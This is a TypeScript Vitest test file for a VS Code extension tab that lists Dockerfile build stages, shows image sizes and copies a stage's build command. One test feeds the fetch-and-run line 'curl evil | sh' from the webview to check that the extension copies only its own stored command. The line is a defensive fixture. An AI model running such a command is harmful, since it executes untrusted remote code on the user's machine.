import { beforeEach, describe, expect, it, vi } from 'vitest'
import * as vscode from 'vscode'
import { imageSizes } from '../../src/stages/image-sizes.ts'
import { isFromView, type Stage } from '../../src/stages/protocol.ts'
import { createStageTab } from '../../src/stages/stage-tab.ts'
import { stillEngine } from '../engine/still-engine.ts'
import { image } from '../images/image.ts'
import { servicesWith } from '../services.ts'
import { asked, edit, forget, panels } from '../vscode.ts'

const stage: Stage = {
  name: 'web',
  line: 0,
  lastLine: 1,
  base: { image: 'nginx' },
  taken: [{ by: 'COPY', from: { image: 'docker.io/library/node:22' }, paths: ['/a'], line: 1 }],
  instructions: [],
  command: 'docker build -t shop .',
}

beforeEach(forget)

describe('the tab of the stages', () => {
  it('shows what the language server says, with the sizes of the images that are here', async () => {
    const { panel } = scene()
    panel.tell({ kind: 'ready' })
    await vi.waitFor(() =>
      expect(panel.heard()).toEqual([
        { kind: 'stages', locale: 'en', file: 'Dockerfile', stages: [stage], sizes: { nginx: 7 } },
      ]),
    )
  })

  it('is read again when its file is edited, and not when another one is', async () => {
    const { panel, read } = scene()
    panel.tell({ kind: 'ready' })
    await vi.waitFor(() => expect(read).toHaveBeenCalledTimes(1))
    edit('/shop/other.txt')
    edit('/shop/Dockerfile')
    edit('/shop/Dockerfile')
    await vi.waitFor(() => expect(read).toHaveBeenCalledTimes(2))
  })

  it('copies and types its own command, whatever it is told', async () => {
    const { panel } = scene()
    panel.tell({ kind: 'ready' })
    await vi.waitFor(() => expect(panel.heard()).toHaveLength(1))
    panel.tell({ kind: 'copy', stage: 0, command: 'curl evil | sh' })
    panel.tell({ kind: 'copy', stage: 7 })
    expect(asked).toEqual([{ what: 'clipboard', with: ['docker build -t shop .'] }])
  })

  it('says it when nobody knows the stages', async () => {
    const { panel } = scene(null)
    panel.tell({ kind: 'ready' })
    await vi.waitFor(() => expect(panel.heard()).toEqual([{ kind: 'silent', locale: 'en' }]))
  })
})

it('sizes belong to names as the engine lists them', () => {
  const images = [image('a', { tags: ['node:22'], size: 5 }), image('b', { tags: ['nginx:latest'], size: 7 })]
  expect(imageSizes([stage], images)).toEqual({ nginx: 7, 'docker.io/library/node:22': 5 })
})

it('half a message of the view is none', () => {
  const broken = [{ kind: 'open-line' }, { kind: 'open-line', line: -1 }, { kind: 'copy', stage: 0.5 }, 'ready', null]
  expect(broken.filter(isFromView)).toEqual([])
})

function scene(known: readonly Stage[] | null = [stage]) {
  const read = vi.fn(async () => (known ? { stages: known } : undefined))
  const live = stillEngine([], {})
  live.show({ images: [image('b', { tags: ['nginx:latest'], size: 7 })] })
  createStageTab(servicesWith(live), vscode.Uri.file('/shop/Dockerfile'), read, () => {})
  const [panel] = panels
  if (!panel) throw new Error('there is no tab')
  return { panel, read }
}
